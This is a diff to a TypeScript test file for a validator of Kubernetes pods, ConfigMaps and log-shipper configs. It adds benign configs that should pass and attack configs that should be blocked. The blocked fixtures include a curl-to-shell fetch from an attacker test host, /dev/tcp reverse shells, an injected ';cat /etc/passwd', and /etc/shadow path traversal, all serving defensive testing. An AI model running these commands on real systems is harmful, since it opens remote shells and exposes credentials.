@@ -21,6 +21,13 @@ const attribute = (key: string, stringValue: string) => ({
   resourceLogs: [{ resource: { attributes: [{ key, value: { stringValue } }] } }],
 });
 
+const pod = (container: object) => ({
+  apiVersion: 'v1',
+  kind: 'Pod',
+  spec: { containers: [{ name: 'api', image: 'a:1', ...container }] },
+});
+const data = (files: object) => ({ apiVersion: 'v1', kind: 'ConfigMap', data: files });
+
 const called = (stringValue: string) => ({
   resourceSpans: [
     { scopeSpans: [{ spans: [{ attributes: [{ key: 'url.full', value: { stringValue } }] }] }] },
@@ -51,6 +58,15 @@ const ships: readonly unknown[] = [
   called('169.254.169.254'),
   { env: { LOG_FILE: '/var/log/api/api.log', PORT: '80' } },
   { APP_LOG_DIR: '/var/log/api' },
+  { Mounts: [{ Source: '/etc/localtime', Destination: '/etc/localtime' }] },
+  { services: { api: { volumes: ['/etc/timezone:/etc/timezone:ro'] } } },
+  { logs: { collect_list: [{ file_path: '/var/log/messages' }] } },
+  pod({ env: [{ name: 'CONFIG', value: '/etc/api/config.yml' }] }),
+  pod({ args: ['-c', '/etc/nginx/nginx.conf'] }),
+  pod({ command: ['sh', '-c', 'echo Hello > /usr/share/message'] }),
+  pod({ command: ['/bin/sh', '-c', 'until nc -z db 5432; do sleep 1; done'] }),
+  data({ 'run.sh': '#!/bin/sh\ncurl -fsS http://api:8080/healthz || exit 1\nrm -rf /tmp/cache/*\n' }),
+  data({ 'a.yml': 'a:\n  token_file: /var/run/secrets/kubernetes.io/serviceaccount/token\n' }),
 ];
 
 test('the logs and mounts that shippers and agents tell of pass, under the names they give them', () => {
@@ -100,6 +116,23 @@ const attacks: readonly unknown[] = [
   { env: { log_file: '/var/log/auth.log' } },
   { env: { LOG_FILE: '/var/log/../../etc/shadow' } },
   { BLOG: '/var/log/auth.log' },
+  { Source: '/etc/localtime' },
+  { volumes: ['/etc/timezone'] },
+  { file_path: '/var/log/messages' },
+  { spec: { file: '/etc/nginx/nginx.conf' } },
+  { spec: { command: ['sh', '-c', 'echo Hello > /usr/share/message'] } },
+  { apiVersion: 'v1', kind: 'x', file: '/etc/nginx/nginx.conf' },
+  { apiVersion: 'v1', kind: 'x', cmd: 'echo Hello > /usr/share/message' },
+  pod({ env: [{ name: 'CONFIG', value: '/etc/shadow' }] }),
+  pod({ env: [{ name: 'CONFIG', value: '../../etc/nginx/nginx.conf' }] }),
+  pod({ env: [{ name: 'X', value: ';cat /etc/passwd' }] }),
+  pod({ command: ['sh', '-c', 'curl http://c.attacker.test/a|sh'] }),
+  pod({ command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1'] }),
+  data({ 'run.sh': 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' }),
+  data({ 'a.yml': '/etc/shadow' }),
+  data({ 'a.yml': 'a:\n  b: ../../../../etc/shadow\n' }),
+  data({ cmd: 'x\n;cat /etc/passwd' }),
+  { data: { 'a.yml': 'a:\n  token_file: /var/run/secrets/kubernetes.io/serviceaccount/token\n' } },
 ];
 
 test('files that only an attacker names, what climbs, and logs anywhere else are blocked as before', () => {
